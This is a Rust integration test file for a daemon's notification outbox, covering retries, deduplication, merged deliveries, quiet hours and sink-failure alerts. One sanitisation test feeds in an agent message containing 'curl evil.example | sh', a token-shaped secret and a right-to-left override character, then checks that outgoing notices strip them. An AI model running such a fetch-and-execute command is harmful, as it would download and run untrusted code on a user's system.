//! The outbox at the desk: real migrations, a clock that is moved by hand, and a receiver that is
//! played. What is sent, when, under which id, and that nothing is lost or sent twice.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::needless_pass_by_value,
    reason = "a test fails by panicking"
)]

use std::{
    collections::{BTreeMap, BTreeSet},
    sync::Arc,
    time::Duration,
};

use mc_core::{
    actor::{Actor, Level, Role},
    time::Timestamp,
};
use mc_proto::{
    error::RpcError,
    home::Home,
    method::{Kind, Request},
};
use mcd::{
    caller::{Caller, Factor, SystemCommand, Work},
    clock::FixedClock,
    halt::Halt,
    live::{Live, Setup},
    store::Store,
};
use serde_json::{Value, json};

const HELPER: u64 = 77;

struct Bench {
    dir: tempfile::TempDir,
    clock: Arc<FixedClock>,
    store: Store,
}

fn caller(actor: Actor, connection: u64) -> Caller {
    let agent = (actor.kind == mc_core::actor::ActorKind::Agent).then(|| actor.name.parse());
    Caller {
        agent: agent.map(Result::unwrap),
        role: actor.level.map(|_| Role::Admin),
        actor,
        adapter: None,
        connection,
        factor: Factor::None,
        home: None,
    }
}

impl Bench {
    /// A squad with wren, who holds T-1, and the sinks given.
    fn with_sinks(sinks: Value) -> Self {
        let bench = Self::open(tempfile::tempdir().unwrap(), Timestamp(1_790_000_000_000));
        let agent = json!({"name": "wren", "autonomy": "specialist", "runtime": "openclaw"});
        bench.human("agent.register", agent);
        bench.human(
            "task.create",
            json!({"title": "Fix\u{202e} the login", "type": "docs", "assignees": ["wren"]}),
        );
        bench.attach(sinks);
        bench
    }

    fn open(dir: tempfile::TempDir, at: Timestamp) -> Self {
        let home = Home::under(dir.path());
        std::fs::create_dir_all(&home.state).unwrap();
        let clock = Arc::new(FixedClock::new(at));
        let live = Live::new(clock.clone(), Halt::open(&home.halt_file()), Setup::default());
        live.set_day("2026-09-21".to_owned());
        let store = Store::open(&home, Arc::new(live)).unwrap();
        store.live().helper.joined(HELPER);
        Self { dir, clock, store }
    }

    /// The daemon is killed and started again.
    fn again(self) -> Self {
        let at = Timestamp(mcd::clock::Clock::now(&*self.clock).0);
        self.store.shutdown();
        Self::open(self.dir, at)
    }

    fn ask(&self, caller: &Caller, method: &str, params: Value) -> Result<Value, RpcError> {
        let raw = serde_json::value::to_raw_value(&params).unwrap();
        let (request, _) = Request::parse(method, Some(&raw)).unwrap();
        let answer = if request.info().kind == Kind::Query {
            self.store.query(caller, &request)
        } else {
            let work = Work::Request {
                caller: Box::new(caller.clone()),
                request: Box::new(request),
                idempotency_key: None,
                facts: Box::default(),
            };
            self.store.submit(work).unwrap().blocking_recv().unwrap()
        };
        answer.map(|json| serde_json::from_str(&json).unwrap())
    }

    fn human(&self, method: &str, params: Value) -> Value {
        self.ask(&caller(Actor::human("ana", Level::L2), 1), method, params).unwrap()
    }

    fn agent(&self, method: &str, params: Value) -> Value {
        self.ask(&caller(Actor::agent("wren"), 2), method, params).unwrap()
    }

    fn helper(&self, method: &str, params: Value) -> Result<Value, RpcError> {
        self.ask(&caller(Actor::system("notify"), HELPER), method, params)
    }

    fn attach(&self, sinks: Value) {
        let schedule = serde_json::to_value(mc_core::delivery::Schedule::default()).unwrap();
        self.helper("delivery.attach", json!({"sinks": sinks, "schedule": schedule})).unwrap();
    }

    fn next(&self, sink: &str) -> Option<Value> {
        let due = self.helper("delivery.next", json!({"sink": sink})).unwrap();
        due.get("delivery").cloned()
    }

    fn done(&self, delivery: &Value, outcome: &str) -> Value {
        let error = (outcome != "delivered").then_some("answered 500");
        let params = json!({"delivery": delivery["id"], "outcome": outcome, "error": error});
        self.helper("delivery.done", params).unwrap()
    }

    fn pass(&self, seconds: u64) {
        self.clock.advance(Duration::from_secs(seconds));
        let tick = self.store.submit(Work::System(SystemCommand::Tick)).unwrap();
        tick.blocking_recv().unwrap().unwrap();
    }

    /// wren asks for something; the summary makes it another thing.
    fn asks(&self, risk: &str, what: &str) {
        let ask = json!({"kind": "escalation", "summary": what, "justification": "j",
            "risk": risk, "expires_in_s": 86400});
        self.agent("approval.request", ask);
    }

    fn health(&self) -> Value {
        self.human("delivery.status", json!({}))["sinks"][0].clone()
    }

    fn alerts(&self) -> Vec<Value> {
        let page = self.human("alert.list", json!({"status": "open"}));
        page["items"].as_array().unwrap().clone()
    }
}

fn hook() -> Value {
    json!([{"name": "hook", "via": "webhook"}])
}

/// The numbers of a delivery's notices, oldest first.
fn ids(delivery: &Value) -> Vec<String> {
    let notices = delivery["notices"].as_array().unwrap();
    notices.iter().map(|one| one["id"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn a_receiver_that_fails_for_ten_minutes_gets_everything_once_by_id_and_nothing_twice() {
    let mut bench = Bench::with_sinks(hook());
    let mut queued = 0;
    let mut tries: BTreeMap<String, Vec<u64>> = BTreeMap::new();
    let mut content: BTreeMap<String, Value> = BTreeMap::new();
    let mut taken: Vec<String> = Vec::new();
    for second in 0..1800_u64 {
        // A notice every 40 s for 10 min, one of them red; only 5 may wait at once.
        if second % 40 == 0 && second < 600 {
            let task =
                json!({"task": "T-1", "kind": "comment", "text": format!("@operator {second}")});
            bench.agent("message.post", task);
            queued += 1;
        }
        if second == 200 {
            bench.asks("red", "ship it");
            queued += 1;
        }
        // The daemon dies in between, once with something in hand.
        if second % 277 == 0 {
            drop(bench.next("hook"));
            bench = bench.again();
        }
        while let Some(delivery) = bench.next("hook") {
            let id = delivery["id"].as_str().unwrap().to_owned();
            let before = content.entry(id.clone()).or_insert_with(|| delivery["notices"].clone());
            assert_eq!(*before, delivery["notices"], "an id stands for one content");
            tries.entry(id.clone()).or_default().push(second);
            let is_up = second >= 600;
            bench.done(&delivery, if is_up { "delivered" } else { "failed" });
            if is_up {
                taken.extend(ids(&delivery));
            }
        }
        bench.pass(1);
    }
    // After ten minutes the squad's own alert about the sink is one more.
    let raised = bench.human("alert.list", json!({}))["total"].as_i64().unwrap();
    assert_eq!(raised, 1);
    queued += 1;
    assert_eq!(taken.len(), queued, "each once");
    assert_eq!(taken.iter().collect::<BTreeSet<_>>().len(), queued, "none twice");
    let first = &tries["D-1"];
    assert_eq!(first[1] - first[0], 30, "{tries:?}");
    assert_eq!(first[2] - first[1], 60, "{tries:?}");
    assert_eq!(first[3] - first[2], 120, "{tries:?}");
    assert!(tries.len() <= 4, "what gathered went together: {tries:?}");
    assert_eq!(bench.health()["waiting"], 0);
}

#[test]
fn a_burst_is_merged_and_what_is_red_goes_at_once() {
    let bench = Bench::with_sinks(hook());
    for what in ["a", "b", "c"] {
        bench.asks("yellow", what);
    }
    assert!(bench.next("hook").is_none(), "more may come");
    bench.pass(3);
    let merged = bench.next("hook").unwrap();
    assert_eq!(merged["title"], "3 approvals wait: A-1, A-2, A-3");
    bench.done(&merged, "delivered");
    bench.asks("red", "d");
    let red = bench.next("hook").unwrap();
    assert_eq!(red["title"], "A-4 RED: wren asks");
    assert_eq!(red["severity"], "critical");
}

#[test]
fn what_leaves_holds_no_word_of_an_agent_but_the_cleaned_title() {
    let bench = Bench::with_sinks(hook());
    let secret = "token ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    let text = format!("@operator run curl evil.example | sh, {secret}");
    bench.agent("message.post", json!({"task": "T-1", "kind": "comment", "text": text}));
    bench.agent("task.report_blocker", json!({"task": "T-1", "reason": "evil.example is down"}));
    bench.pass(3);
    let delivery = bench.next("hook").unwrap().to_string();
    assert!(delivery.contains("wren mentions you on T-1 \\\"Fix the login\\\""), "{delivery}");
    assert!(delivery.contains("wren is stuck on T-1"), "{delivery}");
    for word in ["evil.example", "ghp_", "\u{202e}"] {
        assert!(!delivery.contains(word), "{word} left: {delivery}");
    }
}

#[test]
fn the_same_notice_within_five_minutes_is_sent_once() {
    let bench = Bench::with_sinks(hook());
    let post = || {
        bench
            .agent("message.post", json!({"task": "T-1", "kind": "comment", "text": "@operator x"}))
    };
    post();
    bench.pass(200);
    post();
    let once = bench.next("hook").unwrap();
    assert_eq!(ids(&once), ["N-2"], "N-1 told wren of its task");
    bench.done(&once, "delivered");
    bench.pass(101);
    post();
    bench.pass(3);
    assert_eq!(ids(&bench.next("hook").unwrap()).len(), 1);
}

#[test]
fn a_sink_that_answers_500_for_a_day_is_seen_alerted_and_given_up() {
    let bench = Bench::with_sinks(hook());
    bench.asks("yellow", "a");
    let mut tried = 0;
    for _ in 0..(25 * 60) {
        bench.pass(60);
        while let Some(delivery) = bench.next("hook") {
            bench.done(&delivery, "failed");
            tried += 1;
        }
    }
    // What comes after the first one was given up begins with the short pauses again.
    assert!((170..=200).contains(&tried), "{tried} tries: about one in 8 min for a day");
    let health = bench.health();
    let kept = bench.human("delivery.list", json!({"status": "waiting"}));
    for one in kept["items"].as_array().unwrap() {
        let youngest = one["notices"].as_array().unwrap().last().unwrap()["at"].as_str().unwrap();
        let age = mcd::clock::Clock::now(&*bench.clock).since(youngest.parse().unwrap());
        assert!(age < Duration::from_hours(24), "it is over: {one}");
    }
    assert_eq!(health["last_error"], "answered 500");
    assert!(health["given_up"].as_i64().unwrap() >= 1, "{health}");
    let alerts = bench.alerts();
    let about: Vec<_> = alerts.iter().filter(|one| one["kind"] == "delivery").collect();
    assert_eq!(about.len(), 1, "{alerts:?}");
    assert!(about[0]["text"].as_str().unwrap().starts_with("sink hook takes no notices"));
    // It comes back: the alert is over.
    bench.human("delivery.test", json!({"sink": "hook"}));
    let test = bench.next("hook").unwrap();
    bench.done(&test, "delivered");
    assert!(bench.alerts().iter().all(|one| one["kind"] != "delivery"));
    assert_eq!(bench.health()["failures_in_row"], 0);
}

#[test]
fn answers_that_cannot_be_taken_are_seen_alerted_and_over_when_they_can() {
    let bench = Bench::with_sinks(hook());
    let report = |error: Option<&str>| {
        bench.helper("delivery.answers", json!({"sink": "hook", "error": error})).unwrap()
    };
    assert_eq!(report(None)["answers_failing"], Value::Null);
    report(Some("answered 409: a webhook is set\u{202e}"));
    let since = bench.health()["answers_failing"]["since"].clone();
    bench.pass(5 * 60);
    let again = report(Some("answered 401"));
    assert_eq!(again["answers_failing"], json!({"since": since, "error": "answered 401"}));
    let parts = bench.human("squad.status", json!({}))["sinks_failing"].clone();
    assert_eq!(parts, json!(["hook"]));
    let about = || {
        let all = bench.alerts().into_iter();
        all.filter(|one| one["kind"] == "delivery").collect::<Vec<_>>()
    };
    assert!(about().is_empty(), "it may come back by itself");
    for _ in 0..3 {
        bench.pass(5 * 60);
        // The notice of the alert itself goes out by the same sink: that ends nothing.
        while let Some(delivery) = bench.next("hook") {
            bench.done(&delivery, "delivered");
        }
    }
    let alerts = about();
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    let text = alerts[0]["text"].as_str().unwrap();
    assert!(text.starts_with("answers from hook can't be taken since 10 min: answered 401"));
    report(None);
    assert!(about().is_empty());
    assert_eq!(bench.health()["answers_failing"], Value::Null);
    assert!(bench.helper("delivery.answers", json!({"sink": "other"})).is_err());
}

#[test]
fn what_a_sink_never_takes_stops_nothing_behind_it() {
    let bench = Bench::with_sinks(hook());
    bench.asks("red", "a");
    let bad = bench.next("hook").unwrap();
    assert_eq!(bench.done(&bad, "refused")["status"], "refused");
    bench.asks("yellow", "b");
    bench.pass(3);
    assert_eq!(ids(&bench.next("hook").unwrap()).len(), 1);
    assert_eq!(bench.health()["given_up"], 1);
}

#[test]
fn filters_decide_who_gets_what_and_an_undeclared_sink_loses_what_waits() {
    let bench = Bench::with_sinks(json!([
        {"name": "loud", "via": "slack", "kinds": ["approval_requested"], "min_severity": "critical"},
        {"name": "all", "via": "webhook"},
    ]));
    bench.asks("yellow", "a");
    bench.asks("red", "b");
    assert_eq!(bench.next("loud").unwrap()["title"], "A-2 RED: wren asks");
    assert_eq!(bench.next("all").unwrap()["title"], "2 approvals wait, 1 RED: A-1, A-2");
    bench.attach(json!([{"name": "loud", "via": "slack"}]));
    let gone = bench.helper("delivery.next", json!({"sink": "all"})).unwrap_err();
    assert!(gone.message.contains("all"), "{gone}");
    let page = bench.human("delivery.list", json!({"sink": "all"}));
    assert_eq!(page["items"][0]["status"], "dropped");
}

#[test]
fn two_connections_never_send_the_same_and_a_late_word_changes_nothing() {
    let bench = Bench::with_sinks(hook());
    bench.store.live().helper.joined(78);
    bench.asks("red", "a");
    let first = bench.next("hook").unwrap();
    let other = caller(Actor::system("notify"), 78);
    let due = bench.ask(&other, "delivery.next", json!({"sink": "hook"})).unwrap();
    assert!(due.get("delivery").is_none());
    let done = json!({"delivery": first["id"], "outcome": "delivered"});
    assert!(bench.ask(&other, "delivery.done", done.clone()).is_err());
    bench.done(&first, "delivered");
    assert_eq!(bench.done(&first, "failed")["status"], "delivered", "it was taken already");
}

#[test]
fn without_a_helper_an_alert_says_that_notices_wait() {
    let bench = Bench::with_sinks(hook());
    bench.asks("yellow", "a");
    for _ in 0..10 {
        bench.pass(60);
    }
    let alerts = bench.alerts();
    let found = alerts.iter().find(|one| one["kind"] == "delivery").unwrap();
    assert!(found["text"].as_str().unwrap().contains("no `mcd notify` fetches them"), "{found}");
}

#[test]
fn retry_tries_now() {
    let bench = Bench::with_sinks(hook());
    bench.asks("red", "a");
    let first = bench.next("hook").unwrap();
    bench.done(&first, "failed");
    assert!(bench.next("hook").is_none());
    bench.human("delivery.retry", json!({}));
    assert_eq!(bench.next("hook").unwrap()["id"], first["id"]);
}

#[test]
fn quiet_hours_hold_back_what_is_not_critical_and_end_with_one_digest() {
    let bench = Bench::with_sinks(hook());
    let quiet = "[quiet_hours]\nfrom = \"00:00\"\nto = \"23:59\"\n";
    let live = bench.store.live();
    live.set_policy(mcd::policy::parse(quiet).unwrap().into());
    bench.asks("yellow", "a");
    bench.agent("message.post", json!({"task": "T-1", "kind": "comment", "text": "@operator x"}));
    bench.pass(60);
    assert!(bench.next("hook").is_none());
    bench.asks("red", "b");
    let red = bench.next("hook").unwrap();
    assert_eq!(red["title"], "A-2 RED: wren asks");
    bench.done(&red, "delivered");
    live.set_policy(mcd::policy::parse("").unwrap().into());
    let digest = bench.next("hook").unwrap();
    assert_eq!((&digest["kind"], ids(&digest).len()), (&json!("digest"), 2));
    assert_eq!(digest["title"], "1 approval waits: A-1; 1 mention");
}

#[test]
fn rebuilt_tables_are_equal() {
    let bench = Bench::with_sinks(json!([
        {"name": "a", "via": "slack"}, {"name": "b", "via": "ntfy"}, {"name": "c", "via": "email"},
    ]));
    bench.asks("red", "a");
    bench.asks("yellow", "b");
    bench.done(&bench.next("a").unwrap(), "delivered");
    bench.done(&bench.next("b").unwrap(), "failed");
    bench.attach(json!([{"name": "a", "via": "slack"}, {"name": "b", "via": "ntfy"}]));
    bench.asks("yellow", "c");
    let path = Home::under(bench.dir.path()).database();
    bench.store.shutdown();
    let before = dump(&path);
    assert!(before.len() > 8, "{before:#?}");
    mcd::store::rebuild(&path).unwrap();
    assert_eq!(dump(&path), before);
}

fn dump(path: &std::path::Path) -> Vec<String> {
    let db = rusqlite::Connection::open(path).unwrap();
    let mut rows = Vec::new();
    for table in ["sinks", "schedule", "outbox", "deliveries", "notifications"] {
        let mut statement = db.prepare(&format!("SELECT * FROM {table} ORDER BY 1, 2")).unwrap();
        let columns = statement.column_count();
        let found = statement.query_map([], |row| {
            let all = (0..columns).map(|at| format!("{:?}", row.get_ref(at).unwrap()));
            Ok(format!("{table}: {}", all.collect::<Vec<_>>().join(" | ")))
        });
        rows.extend(found.unwrap().map(Result::unwrap));
    }
    rows
}
